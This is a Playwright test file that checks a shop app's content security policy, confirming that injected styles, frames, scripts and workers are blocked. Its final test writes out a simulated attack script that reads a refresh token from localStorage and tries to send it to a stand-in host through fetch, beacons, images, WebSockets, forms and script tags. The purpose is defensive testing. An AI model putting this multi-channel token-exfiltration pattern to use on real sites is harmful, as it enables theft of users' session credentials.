import type { Page } from '@playwright/test';
import { expect, open, test } from './journey.ts';
import { helpPage } from './support-services.ts';
import { watchComplaints } from './watch-complaints.ts';

/** Collects what the content security policy blocks on a page, from its first byte on. */
async function watchPolicy(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    const { reportViolation } = window as unknown as { reportViolation: (text: string) => void };
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      // zod tests once whether it may create functions, and falls back.
      if (blockedURI !== 'eval') reportViolation(`${effectiveDirective} ${blockedURI}`);
    });
  });
  return violations;
}

test.describe('with the app installed', () => {
  test.use({ serviceWorkers: 'allow' });

  test('the main screens need nothing that the content security policy forbids', async ({ page, shop }) => {
    const violations = await watchPolicy(page);
    await helpPage(page);
    await shop.signInByForm(page);
    for (const path of [
      '/pages/tabBar/index/index',
      '/pages/tabBar/device/device',
      '/pages/tabBar/my/my',
      '/pages/tabBar/support/support',
      '/pages/tabBar/support/webview?url=https://help.example.com/start',
      '/pages/index/order-management/order-management',
      '/pages/index/new-product-application/add-new-product',
      '/pages/tabBar/restock/restock',
      '/pages/new-restock/quick-restock/record-list',
    ]) {
      await page.goto(path);
      await expect(page.locator('main[data-screen]')).toHaveAttribute('data-state', /ready|empty/);
    }
    await page.goto('/s/VC24099999');
    await expect(page.locator('main[data-screen]')).toHaveAttribute('data-state', 'error');
    expect(violations).toEqual([]);
  });
});

test('an inline style sheet, a foreign frame and a script made of text are blocked', async ({
  browser,
  shop,
  system,
}) => {
  // The browser reports what it blocks.
  const page = await (await browser.newContext({ baseURL: system.webUrl })).newPage();
  const complaints = watchComplaints(page);
  const violations = await watchPolicy(page);
  await shop.signIn(page);
  await open(page, '/pages/tabBar/my/my');
  expect(complaints).toEqual([]);
  await page.evaluate(() => {
    const add = (tag: string, own: object) =>
      document.body.append(Object.assign(document.createElement(tag), own));
    add('style', { textContent: 'body { background: red }' });
    add('iframe', { src: 'https://elsewhere.example/' });
    add('script', { textContent: 'document.title = "taken over"' });
    new Worker(URL.createObjectURL(new Blob(['0'])));
  });
  await expect
    .poll(() => violations.toSorted())
    .toEqual([
      'frame-src https://elsewhere.example',
      'script-src-elem inline',
      'style-src-elem inline',
      'worker-src blob',
    ]);
  expect(await page.title()).not.toBe('taken over');
  await page.context().close();
});

test('a script that got into the page cannot send what the phone keeps to another server', async ({
  browser,
  shop,
  system,
}) => {
  // The browser reports what it blocks.
  const page = await (await browser.newContext({ baseURL: system.webUrl })).newPage();
  const violations = await watchPolicy(page);
  const left: string[] = [];
  await page.context().route('https://elsewhere.example/**', (route) => {
    left.push(route.request().url());
    return route.abort();
  });
  await shop.signIn(page);
  await open(page, '/pages/tabBar/my/my');
  await page.evaluate(async () => {
    const taken = `https://elsewhere.example/?${localStorage.getItem('refreshToken')}`;
    await fetch(taken, { mode: 'no-cors' }).catch(() => undefined);
    navigator.sendBeacon(taken);
    new Image().src = taken;
    new Audio(taken);
    try {
      new WebSocket(taken.replace('https', 'wss'));
    } catch {
      // Some browsers throw.
    }
    const add = (tag: string, own: object) =>
      document.body.append(Object.assign(document.createElement(tag), own));
    add('link', { rel: 'stylesheet', href: taken });
    add('script', { src: taken });
    const form = Object.assign(document.createElement('form'), { action: taken, method: 'post' });
    document.body.append(form);
    form.submit();
  });
  const stopped = () => [...new Set(violations.map((text) => text.split(' ')[0]))].sort();
  await expect
    .poll(stopped)
    .toEqual(['connect-src', 'form-action', 'img-src', 'media-src', 'script-src-elem', 'style-src-elem']);
  expect(left).toEqual([]);
  await page.context().close();
});
